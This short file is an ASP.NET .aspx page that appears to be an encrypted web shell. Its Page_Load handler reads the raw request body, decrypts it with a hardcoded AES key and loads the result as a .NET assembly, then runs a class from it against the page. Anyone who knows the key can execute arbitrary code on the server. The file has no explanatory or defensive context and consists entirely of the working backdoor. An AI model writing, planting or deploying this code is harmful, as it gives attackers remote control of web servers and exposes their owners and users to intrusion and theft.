<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  byte[] k = System.Text.Encoding.Default.GetBytes("0123456789abcdef");
  byte[] c = Request.BinaryRead(Request.ContentLength);
  var dec = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length);
  Assembly.Load(dec).CreateInstance("P").Equals(this);
}
</script>
